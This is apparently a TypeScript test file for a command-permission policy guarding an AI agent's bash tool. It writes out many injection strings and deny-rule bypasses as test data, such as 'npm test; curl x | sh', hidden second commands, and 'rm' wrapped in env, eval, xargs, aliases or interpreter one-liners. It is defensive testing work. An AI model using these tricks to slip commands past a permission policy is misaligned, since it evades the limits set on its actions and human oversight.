import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CommandPolicy, MAX_READ_COMMAND } from '../../../src/agent/tools/command-policy.js';

/** Prefix rules, as a project would write them. */
const prefixes = new CommandPolicy([
  { tool: 'bash', path: 'npm test', action: 'allow' },
  { tool: 'bash', path: 'git status', action: 'allow' },
  { tool: 'bash', path: 'make', action: 'allow' },
  { tool: 'bash', path: 'make -f ci.mk', action: 'allow' },
  { tool: 'bash', path: 'rm', action: 'deny' },
  { tool: 'edit_file', action: 'allow' },
]);

/** Every command allowed, but not rm and not git push. */
const allowAll = new CommandPolicy([
  { tool: 'bash', action: 'allow' },
  { tool: 'bash', path: 'rm', action: 'deny' },
  { tool: 'bash', path: 'git push', action: 'deny' },
]);

describe('command policy: prefix rules', () => {
  it.each([
    ['npm test', 'allow'],
    ['npm test -- --watch=false', 'allow'],
    ["git 'status'", 'allow'],
    ['git "status" -s', 'allow'],
    ['  git status\t', 'allow'],
    ['make build', 'allow'],
    ['make -f ci.mk all', 'allow'],
    ['npm testx', 'ask'],
    ['/usr/bin/npm test', 'ask'],
    ['./npm test', 'ask'],
    // The attacks of issue #26: a second command hidden from a hand-written tokenizer.
    ['git status #"\ntouch MARK #"', 'ask'],
    ["git status $'\\'' ; touch MARK #'", 'ask'],
    ['git status # a comment', 'ask'],
    ['git status\ntouch MARK', 'ask'],
    ['git status\rtouch MARK', 'ask'],
    ['npm test; curl x | sh', 'ask'],
    ['npm test && make', 'ask'],
    ['npm test || make', 'ask'],
    ['npm test | tee out', 'ask'],
    ['npm test &', 'ask'],
    ['npm test & touch MARK', 'ask'],
    ['npm test;', 'ask'],
    ['npm test > out', 'ask'],
    ['npm test 2>&1', 'ask'],
    ['npm test < in', 'ask'],
    ['npm test <<< x', 'ask'],
    ['npm test $(whoami)', 'ask'],
    ['npm test "$(whoami)"', 'ask'],
    ['npm test `id`', 'ask'],
    ['npm test <(id)', 'ask'],
    ['npm test $HOME', 'ask'],
    ['npm test "$' + '{HOME}"', 'ask'],
    ['npm test $((1+1))', 'ask'],
    ["npm test $'x'", 'ask'],
    ['npm test $"x"', 'ask'],
    ['npm test *', 'ask'],
    ['npm test ~', 'ask'],
    ['npm test {a,b}', 'ask'],
    ['npm test a\\ b', 'ask'],
    ['X=1 npm test', 'ask'],
    ['NODE_OPTIONS=--require=./x.js npm test', 'ask'],
    ['(npm test)', 'ask'],
    ['{ npm test; }', 'ask'],
    ['! npm test', 'ask'],
    ['npm test "unterminated', 'ask'],
    ['if true; then npm test; fi', 'ask'],
    // Options that move where the command acts are not covered unless the rule names them.
    ['npm test --prefix /outside', 'ask'],
    ['npm test --prefix=/outside', 'ask'],
    ['git status -C ..', 'ask'],
    ['git status --git-dir=/x/.git', 'ask'],
    ['git status --work-tree /x', 'ask'],
    ['make -f other.mk', 'ask'],
    ['make -C /elsewhere', 'ask'],
    ['make -sf other.mk', 'ask'],
    ['make --file=other.mk', 'ask'],
    ['make -f ci.mk -f other.mk', 'ask'],
    ['npm test --pref /outside', 'ask'],
    ['npm test --PREFIX=/outside', 'ask'],
    ['npm test -- --rootDir=/elsewhere', 'ask'],
    ['git status --output=/tmp/x', 'ask'],
    ['npm test -- --coverage --reporter=dot', 'allow'],
    // Deny rules see the command as it runs.
    ['rm -rf x', 'deny'],
    ['git status; rm -rf x', 'deny'],
  ] as const)('%j → %s', async (command, action) => {
    expect((await prefixes.evaluate(command)).action).toBe(action);
  });

  it('asks for quoted text bash reads again as an array subscript (its substitution runs)', async () => {
    const builtins = new CommandPolicy([
      { tool: 'bash', path: 'printf', action: 'allow' },
      { tool: 'bash', path: 'test', action: 'allow' },
      { tool: 'bash', path: 'read', action: 'allow' },
      { tool: 'bash', path: 'git commit', action: 'allow' },
    ]);
    // bash 5 runs `touch MARK` for each of these (the subscript is arithmetic, read after quoting).
    for (const line of [
      "printf -v 'a[$(touch MARK)]' x",
      "test -v 'a[$(touch MARK)]'",
      "read 'a[`touch MARK`]'",
      "git commit -m 'costs $5'",
    ])
      expect((await builtins.evaluate(line)).action, line).toBe('ask');
    expect((await builtins.evaluate("git commit -m 'a[1] done'")).action).toBe('allow');
  });

  it('says which rule allowed, and why it asks', async () => {
    expect(await prefixes.evaluate('npm test')).toEqual({ action: 'allow', rule: 'npm test' });
    expect(await prefixes.evaluate('npm test --prefix /x')).toEqual({
      action: 'ask',
      reason: '--prefix changes where npm test acts; the rule does not name it',
    });
    expect((await prefixes.evaluate('git status # x')).reason).toBe('it has a comment');
    expect((await prefixes.evaluate('X=1 npm test')).reason).toBe('it sets variables for the command');
  });

  it("reads a rule's words as bash does", async () => {
    const quoted = new CommandPolicy([{ tool: 'bash', path: `git commit -m "wip"`, action: 'allow' }]);
    expect((await quoted.evaluate("git commit -m 'wip'")).action).toBe('allow');
    expect((await quoted.evaluate('git commit -m wip2')).action).toBe('ask');
  });

  it('rules for files do not open bash', async () => {
    expect(await new CommandPolicy([{ action: 'allow' }]).evaluate('ls')).toEqual({
      action: 'ask',
      reason: undefined,
    });
  });
});

describe('command policy: deny rules under an allow-all rule', () => {
  it.each([
    ['ls -la', 'allow'],
    ['npm test && git status | head', 'allow'],
    ['rm -f victim', 'deny'],
    // The attacks of issue #26: the denied command behind an assignment, a path or a wrapper.
    ['X=1 rm -f victim', 'deny'],
    ['/bin/rm -f victim', 'deny'],
    ['./rm -f victim', 'deny'],
    ['command rm -f victim', 'deny'],
    ['command -p rm -f victim', 'deny'],
    ['env rm -f victim', 'deny'],
    ['env -i A=1 B=2 rm -f victim', 'deny'],
    ['env -u HOME rm -f victim', 'deny'],
    ['env -iu HOME rm -f victim', 'deny'],
    ['env --unset=HOME -- rm -f victim', 'deny'],
    ['exec rm -f victim', 'deny'],
    ['exec -a name rm -f victim', 'deny'],
    ['builtin rm', 'deny'],
    ['nohup rm -f victim', 'deny'],
    ['time rm -f victim', 'deny'],
    ['time -p nice -n 5 rm -f victim', 'deny'],
    ['timeout -s KILL 5 rm -f victim', 'deny'],
    ['sudo -u root rm -f victim', 'deny'],
    ['"rm" -f victim', 'deny'],
    ["r'm' -f victim", 'deny'],
    ['ls | xargs rm', 'deny'],
    ['ls | xargs -n 1 rm', 'deny'],
    ['find . -name x -exec rm {} \\;', 'deny'],
    ['echo $(rm -f victim)', 'deny'],
    ['echo "`rm -f victim`"', 'deny'],
    ['f() { rm -f victim; }; f', 'deny'],
    ['for i in 1; do rm -f victim; done', 'deny'],
    ['diff <(rm x) y', 'deny'],
    ['git push origin main', 'deny'],
    ['cd x && git push', 'deny'],
    ['busybox rm -f victim', 'deny'],
    ['setsid -f rm -f victim', 'deny'],
    ['chroot / rm -f victim', 'deny'],
    ['flock /tmp/lock rm -f victim', 'deny'],
    ['r""m -f victim', 'deny'],
    ['echo $(( a[$(rm x)] ))', 'deny'],
    [`x=$\{y:-$(rm x)}`, 'deny'],
    ['echo >(rm x)', 'deny'],
    ['git status', 'allow'],
    ['cat <<EOF\nplain text\nEOF', 'allow'],
    // A command whose name the shell computes cannot be checked against the deny rules: asked.
    ['$CMD -f victim', 'ask'],
    ['"$(echo rm)" -f victim', 'ask'],
    ['r\\m -f victim', 'ask'],
    ['eval "rm -f victim"', 'ask'],
    ['bash -c "rm -f victim"', 'ask'],
    ['sh script.sh', 'ask'],
    ['env -S "rm -f victim"', 'ask'],
    ['git "$SUB" origin', 'ask'],
    ['trap "rm -f victim" EXIT', 'ask'],
    ['flock -c "rm -f victim" /tmp/lock', 'ask'],
    ['flock /tmp/lock -c "rm -f victim"', 'ask'],
    // The grammar does not read backquotes in a here-document; bash runs them.
    ['cat <<EOF\n`rm -f victim`\nEOF', 'ask'],
    ['ls "unterminated', 'ask'],
    // No list of wrappers, options and interpreters is complete: a line naming a denied command is asked.
    ['alias g=rm; g victim', 'ask'],
    ['shopt -s expand_aliases\nalias g=rm\ng victim', 'ask'],
    ['hash -p /bin/rm g; g victim', 'ask'],
    ['strace rm victim', 'ask'],
    ['runuser -u root -- rm victim', 'ask'],
    ['npx rm victim', 'ask'],
    ['xargs --max-args 1 rm', 'ask'],
    ["git -c core.pager='rm victim' log", 'ask'],
    ['awk \'BEGIN{system("rm victim")}\'', 'ask'],
    ['python3 -c \'import os; os.system("rm victim")\'', 'ask'],
    ['cp /bin/rm g; ./g victim', 'ask'],
    ['git -C . push', 'ask'],
    ['git --no-pager -c x=y push origin', 'ask'],
    ["test -v 'a[$(rm victim)]'", 'ask'],
    ['rmdir empty', 'allow'],
    ['npm run format', 'allow'],
    // The grammar once read `rm -f victim` as arguments of `echo ==` from the line above: not trusted.
    ['echo ==\nrm -f victim', 'ask'],
  ] as const)('%j → %s', async (command, action) => {
    expect((await allowAll.evaluate(command)).action).toBe(action);
  });

  it('asks for a line longer than it reads, unread (a 2 MB line took 20 s to read)', async () => {
    const long = `echo ${'a '.repeat(1_000_000)}`;
    expect(await allowAll.evaluate(long)).toEqual({
      action: 'ask',
      reason: `it is longer than ${MAX_READ_COMMAND} characters, more than editgate reads to decide`,
    });
    expect((await allowAll.evaluate(`echo ${'a'.repeat(MAX_READ_COMMAND - 10)}`)).action).toBe('allow');
    const none = new CommandPolicy([{ tool: 'bash', action: 'deny' }]);
    expect((await none.evaluate(long)).action).toBe('deny');
  });

  it("a rule's words with punctuation are named as the line's are", async () => {
    const deploy = new CommandPolicy([
      { tool: 'bash', action: 'allow' },
      { tool: 'bash', path: 'npm run deploy:prod', action: 'deny' },
    ]);
    expect((await deploy.evaluate('npm run deploy:prod')).action).toBe('deny');
    expect((await deploy.evaluate('npm --prefix . run deploy:prod')).action).toBe('ask');
    expect((await deploy.evaluate('npm run deploy:staging')).action).toBe('allow');
  });

  it('a deny rule without a command refuses every line', async () => {
    const none = new CommandPolicy([{ tool: 'bash', action: 'deny' }]);
    expect(await none.evaluate('ls')).toEqual({ action: 'deny', rule: 'every command' });
  });

  it('without deny rules, an allow-all rule allows what it can read, and asks what it cannot', async () => {
    const every = new CommandPolicy([{ tool: 'bash', action: 'allow' }]);
    expect((await every.evaluate('a; $B | c > d')).action).toBe('allow');
    expect((await every.evaluate('echo "open')).action).toBe('ask');
  });
});

describe('command policy: property', () => {
  const plainWord = fc.stringMatching(/^[a-z0-9._=-]{1,8}$/);
  const tailWord = fc.oneof(
    plainWord,
    fc.constantFrom("'q u'", '"dq"', '$X', '*.js', '#c', "$'\\''", '"', "'"),
  );
  const operator = fc.constantFrom(
    ';',
    '&&',
    '||',
    '|',
    '&',
    '\n',
    '\r\n',
    '$(',
    '`',
    '>',
    '>>',
    '<',
    '<(',
    '2>',
  );
  const allowed = fc.constantFrom('npm test', 'git status', 'make', "git 'status' -s");

  it('an allowed command joined to anything by an operator is never allowed by prefix rules', async () => {
    await fc.assert(
      fc.asyncProperty(
        allowed,
        fc.array(plainWord, { maxLength: 3 }),
        operator,
        fc.boolean(),
        fc.array(tailWord, { maxLength: 4 }),
        async (command, args, op, spaced, tail) => {
          const gap = spaced ? ' ' : '';
          const line = [command, ...args].join(' ') + gap + op + gap + tail.join(' ');
          expect((await prefixes.evaluate(line)).action).not.toBe('allow');
        },
      ),
      { numRuns: 400 },
    );
  });

  it('with an allow-all rule, a line holding a denied command is never allowed', async () => {
    const prefix = fc.constantFrom(
      '',
      'X=1 ',
      'env ',
      'command ',
      '/bin/',
      'nohup ',
      'time ',
      'exec ',
      'env -i ',
    );
    // Words bash reads plainly but a grammar may take for operators of [[ ]], (( )) or case: `echo ==`
    // and a newline once hid the next line's command inside the first (found by this property).
    const trickyWord = fc.constantFrom(
      '==',
      '=~',
      '!=',
      '=',
      '-eq',
      ']]',
      '))',
      'in',
      'do',
      'esac',
      '}',
      '-o',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(plainWord, trickyWord), { maxLength: 3 }),
        operator.filter((op) => !['>', '>>', '<', '2>', '$(', '`', '<('].includes(op)),
        prefix,
        async (before, op, wrap) => {
          const line = `echo ${before.join(' ')} ${op} ${wrap}rm -f victim`;
          expect((await allowAll.evaluate(line)).action).not.toBe('allow');
        },
      ),
      { numRuns: 600 },
    );
  });
});
